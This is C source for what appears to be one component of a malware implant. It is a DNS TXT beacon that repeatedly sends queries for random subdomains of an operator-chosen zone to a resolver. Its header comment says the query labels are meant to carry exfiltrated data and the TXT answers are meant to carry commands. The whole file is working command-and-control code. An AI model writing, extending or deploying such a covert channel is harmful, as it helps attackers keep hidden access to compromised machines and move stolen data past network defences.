/*
 * dns-txt RESOLVER ZONE: asks a resolver for the TXT record of a name that nobody asked for before, after each nap of its
 * standard input: the label carries what would be told out, the answer what would be the task. A datagram and a socket each.
 */
#include "implant.h"
#include <sys/random.h>

/* A label with its length before it; the place after it. */
static unsigned char *put_label(unsigned char *at, const char *label, size_t length)
{
  *at = (unsigned char)length;
  memcpy(at + 1, label, length);
  return at + 1 + length;
}

/* DNS message (RFC 1035, 4.1): id, flags with recursion desired, one question of type TXT, class IN. */
static size_t write_query(unsigned char *query, const char *zone)
{
  unsigned char chance[18];
  char secret[33];
  if (getrandom(chance, sizeof chance, 0) != sizeof chance) return 0;
  for (int i = 0; i < 16; i++) snprintf(secret + 2 * i, 3, "%02x", chance[i]);
  memcpy(query, (unsigned char[12]){ chance[16], chance[17], 1, 0, 0, 1 }, 12);
  unsigned char *at = put_label(query + 12, secret, 32);
  for (const char *label = zone; *label;) {
    size_t length = strcspn(label, ".");
    at = put_label(at, label, length);
    label += length + (label[length] == '.');
  }
  memcpy(at, (unsigned char[5]){ 0, 0, 16, 0, 1 }, 5);
  return (size_t)(at + 5 - query);
}

static void ask(const char *resolver, const char *zone)
{
  unsigned char query[320], answer[1500];
  size_t length = write_query(query, zone);
  int fd = connect_to(SOCK_DGRAM, resolver, "53");
  if (fd < 0) return;
  if (send(fd, query, length, 0) > 0) recv(fd, answer, sizeof answer, 0);
  close(fd);
}

int main(int argc, char **argv)
{
  if (argc != 3 || strlen(argv[2]) > 200) {
    fprintf(stderr, "usage: naps RULE .. | dns-txt RESOLVER ZONE\n");
    return 2;
  }
  do ask(argv[1], argv[2]);
  while (wait_nap());
  return 0;
}
